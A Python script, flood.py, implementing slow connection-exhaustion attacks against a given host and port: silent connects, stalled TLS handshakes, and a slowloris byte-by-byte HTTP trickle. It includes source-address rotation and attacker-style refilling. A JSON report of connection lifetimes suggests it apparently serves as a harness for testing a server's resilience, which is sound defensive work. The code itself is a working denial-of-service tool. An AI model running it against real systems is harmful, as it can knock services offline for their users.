#!/usr/bin/env python3
"""Hostile clients that hold connections open without ever finishing.

  flood.py --target HOST:PORT --count N --mode MODE [options]

MODE:
  silent     connect and send nothing
  tls-hello  send a TLS ClientHello, then nothing
  tls-done   finish the TLS handshake, then send nothing (no HELLO)
  trickle    send an HTTP request head one byte every --interval seconds,
             never its end (slowloris)

Options:
  --sources A,B,...   source addresses, used in turn (default: any)
  --interval SEC      trickle: seconds between bytes (default 1)
  --hold SEC          keep going this long, then exit (default 60)
  --refill            open a new connection for each one the server
                      closes (or that fails), as an attacker would
  --ready FILE        written once every connection was tried
  --report FILE       a JSON summary, rewritten every second and at exit:
                      opened, failed (connect errors), open now, closed
                      (by the server), longest life of a closed one and
                      age of the oldest still open, in seconds

A connection the server closes (EOF or reset) counts as closed; what
it sends before is read and dropped.
"""

import argparse
import errno
import json
import os
import selectors
import socket
import ssl
import sys
import time

HEAD = (b"GET /rest/v1/x/tunnels HTTP/1.1\r\nHost: x\r\n"
        + b"".join(b"X-Slow-%d: %s\r\n" % (i, b"y" * 40) for i in range(400)))


class Conn:
    def __init__(self, sock, opened):
        self.sock = sock
        self.opened = opened
        self.sent = 0
        self.tls = None


TLS_CTX = None


def tls_ctx():
    global TLS_CTX
    if TLS_CTX is None:
        TLS_CTX = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        TLS_CTX.check_hostname = False
        TLS_CTX.verify_mode = ssl.CERT_NONE
    return TLS_CTX


def tls_hello(sock):
    inb, outb = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = tls_ctx().wrap_bio(inb, outb, server_side=False)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    data = outb.read()
    sock.setblocking(True)
    sock.settimeout(5)
    sock.sendall(data)
    sock.setblocking(False)
    return obj


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--mode", choices=("silent", "tls-hello", "tls-done",
                                       "trickle"),
                    required=True)
    ap.add_argument("--sources", default="")
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--hold", type=float, default=60.0)
    ap.add_argument("--refill", action="store_true")
    ap.add_argument("--ready")
    ap.add_argument("--report")
    a = ap.parse_args()
    host, port = a.target.rsplit(":", 1)
    port = int(port)
    sources = [s for s in a.sources.split(",") if s]
    sel = selectors.DefaultSelector()
    conns = {}
    opened = failed = closed = 0
    longest_closed = 0.0
    start = time.monotonic()

    def report(final=False):
        if not a.report:
            return
        now = time.monotonic()
        oldest = max((now - c.opened for c in conns.values()), default=0)
        d = {"opened": opened, "failed": failed, "open": len(conns),
             "closed": closed, "longest_closed": round(longest_closed, 1),
             "oldest_open": round(oldest, 1), "final": final}
        tmp = a.report + ".tmp"
        with open(tmp, "w") as f:
            json.dump(d, f)
        os.rename(tmp, a.report)

    def drop(fd, c):
        nonlocal closed, longest_closed
        sel.unregister(c.sock)
        c.sock.close()
        del conns[fd]
        closed += 1
        longest_closed = max(longest_closed, time.monotonic() - c.opened)

    def open_one(i):
        nonlocal opened, failed
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        try:
            if sources:
                s.bind((sources[i % len(sources)], 0))
            s.settimeout(5)
            s.connect((host, port))
            s.setblocking(False)
            c = Conn(s, time.monotonic())
            if a.mode == "tls-hello":
                c.tls = tls_hello(s)
            elif a.mode == "tls-done":
                s.settimeout(10)
                c.tls = tls_ctx().wrap_socket(s, do_handshake_on_connect=False)
                c.tls.do_handshake()
                c.tls.setblocking(False)
                c.sock = s = c.tls
            elif a.mode == "trickle":
                s.send(HEAD[:1])
                c.sent = 1
        except OSError:
            failed += 1
            s.close()
            return
        opened += 1
        conns[s.fileno()] = c
        sel.register(s, selectors.EVENT_READ, c)

    for i in range(a.count):
        open_one(i)
    if a.ready:
        with open(a.ready, "w") as f:
            f.write("%d %d\n" % (opened, failed))
    report()

    next_tick = time.monotonic() + a.interval
    next_report = time.monotonic() + 1
    while time.monotonic() - start < a.hold:
        timeout = max(0, min(next_tick, next_report) - time.monotonic())
        for key, _ in sel.select(timeout):
            c = key.data
            try:
                data = c.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError,
                    ssl.SSLWantWriteError):
                continue
            except OSError:
                data = b""
            # EOF or a reset: the server is done with it (an answer,
            # such as a ServerHello or a 408, is read and dropped)
            if not data:
                drop(key.fd, c)
        now = time.monotonic()
        if a.mode == "trickle" and now >= next_tick:
            next_tick = now + a.interval
            for fd, c in list(conns.items()):
                if c.sent >= len(HEAD):
                    continue
                try:
                    c.sock.send(HEAD[c.sent:c.sent + 1])
                    c.sent += 1
                except BlockingIOError:
                    pass
                except OSError:
                    drop(fd, c)
        if a.refill:
            for i in range(min(a.count - len(conns), 50)):
                open_one(opened + failed)
        if now >= next_report:
            next_report = now + 1
            report()
    report(True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
